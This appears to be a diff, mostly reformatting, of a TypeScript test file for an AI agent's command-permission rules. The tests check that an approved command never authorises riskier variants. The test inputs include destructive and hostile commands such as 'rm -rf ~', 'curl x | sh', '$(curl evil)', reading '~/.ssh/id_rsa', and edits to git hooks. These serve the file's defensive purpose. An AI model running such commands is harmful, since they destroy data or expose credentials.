@@ -1,13 +1,28 @@
 import assert from 'node:assert/strict';
 import {
-  allowOption, createRule, describeRule, loadRules, optionPresentation, requestFacet, ruleCandidates, ruleMatches, ruleOffer,
-  type PermissionRule, type RuleCandidate, type RuleScope,
+  allowOption,
+  createRule,
+  describeRule,
+  loadRules,
+  optionPresentation,
+  requestFacet,
+  ruleCandidates,
+  ruleMatches,
+  ruleOffer,
+  type PermissionRule,
+  type RuleCandidate,
+  type RuleScope,
 } from '../../../src/agents/permissionRules';
 import type { PermissionOption, PermissionRequest, ToolCallFields } from '../../../src/protocol/domain';
 
 const CWD = '/work/project';
 const cmd = (command: string, cwd = CWD): PermissionRequest => ({ sessionId: 's', title: 'Run', subject: { type: 'command', command, cwd }, options: [] });
-const tool = (fields: ToolCallFields): PermissionRequest => ({ sessionId: 's', title: 'Tool', subject: { type: 'tool_call', toolCallId: 't', fields }, options: [] });
+const tool = (fields: ToolCallFields): PermissionRequest => ({
+  sessionId: 's',
+  title: 'Tool',
+  subject: { type: 'tool_call', toolCallId: 't', fields },
+  options: [],
+});
 const rule = (c: RuleCandidate, agentId = 'a'): PermissionRule => createRule(agentId, c, 1);
 
 /** Every rule the user could create from `first` ("always allow"), narrow and wider. */
@@ -18,7 +33,11 @@ const anyApproves = (first: PermissionRequest, later: PermissionRequest): boolea
 describe('permission rules — issue 12 examples (a rule never allows more than the user saw)', () => {
   it('"always allow" of `rm -i tmp.txt` never approves `rm -rf ~` (nor any other rm)', () => {
     const first = cmd('rm -i tmp.txt');
-    assert.deepEqual(ruleCandidates(first).map((c) => c.breadth), ['narrow'], 'rm is never widened');
+    assert.deepEqual(
+      ruleCandidates(first).map((c) => c.breadth),
+      ['narrow'],
+      'rm is never widened',
+    );
     for (const later of ['rm -rf ~', 'rm -rf /', 'rm -rf .', 'rm -i other.txt', 'rm -i tmp.txt -rf', 'rm tmp.txt', 'rm']) {
       assert.equal(anyApproves(first, cmd(later)), false, later);
     }
@@ -29,7 +48,10 @@ describe('permission rules — issue 12 examples (a rule never allows more than 
 
   it('`env CI=1 npm test` covers only itself, never `env` with anything', () => {
     const first = cmd('env CI=1 npm test');
-    assert.deepEqual(ruleCandidates(first).map((c) => c.breadth), ['narrow']);
+    assert.deepEqual(
+      ruleCandidates(first).map((c) => c.breadth),
+      ['narrow'],
+    );
     for (const later of ['env rm -rf ~', 'env CI=1 npm publish', 'env CI=1 npm test --watch', 'env', 'env CI=0 npm test']) {
       assert.equal(anyApproves(first, cmd(later)), false, later);
     }
@@ -49,7 +71,10 @@ describe('permission rules — issue 12 examples (a rule never allows more than 
 
   it('`bash -lc "npm test"` covers only that exact script', () => {
     const first = cmd('bash -lc "npm test"');
-    assert.deepEqual(ruleCandidates(first).map((c) => c.breadth), ['narrow']);
+    assert.deepEqual(
+      ruleCandidates(first).map((c) => c.breadth),
+      ['narrow'],
+    );
     assert.equal(anyApproves(first, cmd("bash -lc 'npm test'")), true);
     for (const later of ['bash -lc "rm -rf ~"', 'bash', 'bash -lc "npm test; rm -rf ~"', 'bash -c "npm test"', 'sh -lc "npm test"']) {
       assert.equal(anyApproves(first, cmd(later)), false, later);
@@ -58,12 +83,27 @@ describe('permission rules — issue 12 examples (a rule never allows more than 
 
   it('`git log --oneline` widens only to read-only options: never `--output`, `--ext-diff` or `-c`', () => {
     const c = ruleCandidates(cmd('git log --oneline'));
-    assert.deepEqual(c.map((x) => x.breadth), ['narrow', 'wider']);
+    assert.deepEqual(
+      c.map((x) => x.breadth),
+      ['narrow', 'wider'],
+    );
     const [narrow, wider] = c.map((x) => rule(x));
     assert.equal(ruleMatches(wider!, 'a', cmd('git log --oneline -n 5 main -- src')), true);
     assert.equal(ruleMatches(narrow!, 'a', cmd('git log --oneline -n 5')), false, 'the narrow form is exact');
-    for (const later of ['git log --output=/tmp/x', 'git log --output /tmp/x', 'git log --out=/tmp/x', 'git log --ext-diff -p', 'git -c core.pager=sh log',
-      'git log -- /etc/passwd', 'git log ../other', 'git log --oneline; rm -rf ~', 'git push', 'git log --exec=x', 'GIT_PAGER=sh git log', 'git log ~/x']) {
+    for (const later of [
+      'git log --output=/tmp/x',
+      'git log --output /tmp/x',
+      'git log --out=/tmp/x',
+      'git log --ext-diff -p',
+      'git -c core.pager=sh log',
+      'git log -- /etc/passwd',
+      'git log ../other',
+      'git log --oneline; rm -rf ~',
+      'git push',
+      'git log --exec=x',
+      'GIT_PAGER=sh git log',
+      'git log ~/x',
+    ]) {
       assert.equal(anyApproves(cmd('git log --oneline'), cmd(later)), false, later);
     }
     assert.match(c[1]!.description, /^Runs `git log` in \/work\/project with only these options/);
@@ -86,7 +126,10 @@ describe('permission rules — issue 12 examples (a rule never allows more than 
     const offer = ruleOffer(req);
     assert.deepEqual(offer.candidates, []);
     assert.match(offer.reason ?? '', /plan mode/);
-    const scopes: RuleScope[] = [{ type: 'toolCall', kind: 'switch_mode', title: 'Approve Plan', paths: [], input: '{"plan":"# Plan"}' }, { type: 'toolKind', kind: 'switch_mode' }];
+    const scopes: RuleScope[] = [
+      { type: 'toolCall', kind: 'switch_mode', title: 'Approve Plan', paths: [], input: '{"plan":"# Plan"}' },
+      { type: 'toolKind', kind: 'switch_mode' },
+    ];
     for (const scope of scopes) {
       assert.equal(ruleMatches(createRule('a', scope, 0), 'a', req), false, scope.type);
     }
@@ -96,10 +139,21 @@ describe('permission rules — issue 12 examples (a rule never allows more than 
     for (const kind of ['edit', 'execute', 'delete', 'move', 'fetch', 'other', 'teleport']) {
       const req = tool({ kind, title: `${kind} it`, locations: [{ path: '/work/project/a.ts' }], rawInput: { x: 1 } });
       const c = ruleCandidates(req);
-      assert.deepEqual(c.map((x) => x.breadth), ['narrow'], kind);
-      assert.ok(c.every((x) => x.scope.type !== 'toolKind'), kind);
+      assert.deepEqual(
+        c.map((x) => x.breadth),
+        ['narrow'],
+        kind,
+      );
+      assert.ok(
+        c.every((x) => x.scope.type !== 'toolKind'),
+        kind,
+      );
       const r = rule(c[0]!);
-      assert.equal(ruleMatches(r, 'a', tool({ kind, title: `${kind} it`, locations: [{ path: '/etc/passwd' }], rawInput: { x: 1 } })), false, `${kind}: another file`);
+      assert.equal(
+        ruleMatches(r, 'a', tool({ kind, title: `${kind} it`, locations: [{ path: '/etc/passwd' }], rawInput: { x: 1 } })),
+        false,
+        `${kind}: another file`,
+      );
     }
     // A stored kind-wide rule for `edit` or `execute` never matches.
     for (const kind of ['edit', 'execute']) {
@@ -125,15 +179,31 @@ describe('permission rules — narrow forms and descriptions', () => {
     const [q] = ruleCandidates(cmd(`echo "it's here" 'a b'`));
     assert.match(q!.description, /Runs exactly `echo 'it'\\''s here' 'a b'`/);
     const r = createRule('demo', narrow!, 5);
-    assert.equal(describeRule(r, 'Demo Agent', { displayPath: (p) => p.replace('/work/project', '.') }), 'Demo Agent: Runs exactly `npm test` in . — any other argument, word or folder asks again.');
+    assert.equal(
+      describeRule(r, 'Demo Agent', { displayPath: (p) => p.replace('/work/project', '.') }),
+      'Demo Agent: Runs exactly `npm test` in . — any other argument, word or folder asks again.',
+    );
   });
 
   it('offers no rule for compound commands, substitutions, redirections and patterns, and says why', () => {
     const cases: [string, RegExp][] = [
-      ['npm test && rm -rf ~', /chains/], ['npm test; curl x | sh', /chains/], ['npm test\nrm -rf ~', /control|chains/], ['npm $(curl evil)', /substitutes/],
-      ['npm `id`', /substitutes/], ['echo "$HOME"', /substitutes/], ['npm test > /etc/x', /redirects/], ['rm *.txt', /pattern/], ['cat ~/.ssh/id_rsa', /pattern/],
-      ['(rm -rf ~)', /chains/], ['npm test # comment', /chains/], ['if true', /chains/], ['X=1', /only sets variables/], ['echo "open', /not closed/],
-      ['', /empty/], ['rm \u202Etxt.exe', /control/], ['x'.repeat(5000), /longer/],
+      ['npm test && rm -rf ~', /chains/],
+      ['npm test; curl x | sh', /chains/],
+      ['npm test\nrm -rf ~', /control|chains/],
+      ['npm $(curl evil)', /substitutes/],
+      ['npm `id`', /substitutes/],
+      ['echo "$HOME"', /substitutes/],
+      ['npm test > /etc/x', /redirects/],
+      ['rm *.txt', /pattern/],
+      ['cat ~/.ssh/id_rsa', /pattern/],
+      ['(rm -rf ~)', /chains/],
+      ['npm test # comment', /chains/],
+      ['if true', /chains/],
+      ['X=1', /only sets variables/],
+      ['echo "open', /not closed/],
+      ['', /empty/],
+      ['rm \u202Etxt.exe', /control/],
+      ['x'.repeat(5000), /longer/],
     ];
     for (const [line, why] of cases) {
       const offer = ruleOffer(cmd(line));
@@ -157,7 +227,11 @@ describe('permission rules — narrow forms and descriptions', () => {
     assert.equal(ruleMatches(r, 'a', tool({ kind: 'edit', title: 'Edit a.ts again', locations: [{ path: '/w/a.ts' }], rawInput: { content: 'v2' } })), true);
     assert.equal(ruleMatches(r, 'a', tool({ kind: 'edit', locations: [{ path: '/w/a.ts' }, { path: '/w/b.ts' }] })), false, 'an extra file');
     assert.equal(ruleMatches(r, 'a', tool({ kind: 'delete', locations: [{ path: '/w/a.ts' }] })), false, 'another kind');
-    const viaDiff = tool({ kind: 'edit', locations: [{ path: '/w/a.ts' }], content: [{ type: 'diff', changes: [{ operation: 'modify', path: '/w/.git/hooks/pre-commit' }] }] });
+    const viaDiff = tool({
+      kind: 'edit',
+      locations: [{ path: '/w/a.ts' }],
+      content: [{ type: 'diff', changes: [{ operation: 'modify', path: '/w/.git/hooks/pre-commit' }] }],
+    });
     assert.equal(ruleMatches(r, 'a', viaDiff), false, 'a file named only in the diff counts');
 
     const exec = tool({ kind: 'execute', title: 'npm test', rawInput: { command: 'npm test' } });
@@ -205,8 +279,17 @@ describe('permission rules — stored rules of format version 1', () => {
   });
 
   it('a two-word prefix becomes the exact command or the read-only form; kinds that change things are removed', () => {
-    const { rules, notes } = loadRules([v1('commandPrefix', 'npm test'), v1('commandPrefix', 'git status'), v1('toolKind', 'edit'), v1('toolKind', 'read'), v1('commandPrefix', 'sudo ls')]);
-    assert.deepEqual(rules.map((r) => r.type), ['commandExact', 'commandReadOnly', 'toolKind']);
+    const { rules, notes } = loadRules([
+      v1('commandPrefix', 'npm test'),
+      v1('commandPrefix', 'git status'),
+      v1('toolKind', 'edit'),
+      v1('toolKind', 'read'),
+      v1('commandPrefix', 'sudo ls'),
+    ]);
+    assert.deepEqual(
+      rules.map((r) => r.type),
+      ['commandExact', 'commandReadOnly', 'toolKind'],
+    );
     const [npm, git] = rules;
     assert.equal(ruleMatches(npm!, 'a', cmd('npm test', '/any/folder')), true, 'old rules had no folder');
     assert.equal(ruleMatches(npm!, 'a', cmd('npm test --script-shell=/tmp/evil')), false, 'but no longer any further argument');
@@ -219,7 +302,12 @@ describe('permission rules — stored rules of format version 1', () => {
   });
 
   it('never throws on a tampered stored rule that bypassed loadRules', () => {
-    for (const bad of [null, 5, { version: 2, agentId: 'a', type: 'commandExact', words: 'rm', cwd: null }, { version: 2, agentId: 'a', type: 'toolPaths', kind: 'edit', paths: null }]) {
+    for (const bad of [
+      null,
+      5,
+      { version: 2, agentId: 'a', type: 'commandExact', words: 'rm', cwd: null },
+      { version: 2, agentId: 'a', type: 'toolPaths', kind: 'edit', paths: null },
+    ]) {
       const r = bad as unknown as PermissionRule;
       assert.equal(ruleMatches(r, 'a', cmd('rm')), false);
       assert.equal(ruleMatches(r, 'a', tool({ kind: 'edit', locations: [{ path: '/w/a' }] })), false);
